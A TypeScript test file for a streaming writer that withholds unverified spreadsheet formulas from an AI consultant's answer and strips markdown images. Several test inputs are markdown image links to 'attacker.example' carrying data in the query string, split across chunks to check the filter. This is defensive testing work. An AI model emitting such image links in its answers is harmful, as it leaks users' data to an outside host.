import type { AnswerFormula, AskEvent } from '@sheetwright/contract/consultant.ts';
import { describe, expect, test } from 'vitest';
import { createProvedWriter } from './proved-writer.ts';

const RIGHT = '```formula\n=RIGHT(1)\n```\n';
const WRONG = '```formula\n=WRONG(1)\n```\n';

describe('an answer while it is written', () => {
  test.each([['![a](https://attacker.example/?d=1)'], ['Look: !', '[a](https://attacker.example/?d=1)'], ['!!', '[', 'a][ref]']])(
    'shows no picture, however it is cut',
    (...chunks) => {
      const { response, events } = write(chunks);
      expect(response).not.toContain('![');
      expect(textOf(events)).toBe(response);
    },
  );

  test('keeps other exclamation marks', () => {
    expect(write(['Done!', ' Well done!']).response).toBe('Done! Well done!');
    expect(write(['Look!', RIGHT]).response).toBe(`Look!${RIGHT}`);
  });

  test('holds everything from a wrong formula on, and shows it when it is corrected', () => {
    const events: AskEvent[] = [];
    const writer = createProvedWriter(prove, (event) => events.push(event));
    writer.push(`One\n\n${RIGHT}Two\n\n${WRONG}Three\n\n${RIGHT}`);
    expect(textOf(events)).toBe(`One\n\n${RIGHT}Two\n\n`);
    const [wrong] = writer.end();
    if (!wrong) throw new Error('nothing is wrong');
    writer.correct(wrong, '=RIGHT(2)');
    expect(writer.end()).toEqual([]);
    const { response, formulas } = writer.finish();
    expect(response).toBe(`One\n\n${RIGHT}Two\n\n\`\`\`formula\n=RIGHT(2)\n\`\`\`\nThree\n\n${RIGHT}`);
    expect(formulas.map(({ formula }) => formula)).toEqual(['=RIGHT(1)', '=RIGHT(2)']);
    expect(textOf(events)).toBe(response);
  });

  test('shows what stays wrong, as such', () => {
    const { formulas, response } = write([`${WRONG}That is it.`]);
    expect(formulas).toMatchObject([{ verified: false }]);
    expect(response).toBe(`${WRONG}That is it.`);
  });

  test('corrects of two equal formulas each by itself', () => {
    const writer = createProvedWriter(prove, () => {});
    writer.push(`${WRONG}\n${WRONG}`);
    const [first, second] = writer.end();
    if (!first || !second) throw new Error('two were wrong');
    writer.correct(second, '=RIGHT(2)');
    expect(writer.finish().formulas.map(({ formula }) => formula)).toEqual(['=WRONG(1)', '=RIGHT(2)']);
  });
});

function write(chunks: readonly string[]) {
  const events: AskEvent[] = [];
  const writer = createProvedWriter(prove, (event) => events.push(event));
  for (const chunk of chunks) writer.push(chunk);
  writer.end();
  return { ...writer.finish(), events };
}

function textOf(events: readonly AskEvent[]): string {
  return events.flatMap((event) => (event.type === 'text' ? event.text : [])).join('');
}

function prove(formula: string): AnswerFormula {
  const verified = formula.includes('RIGHT');
  return {
    formula,
    verified,
    reason: verified ? null : 'No',
    checkedAgainst: null,
    explanation: [],
    example: null,
    references: [],
  };
}
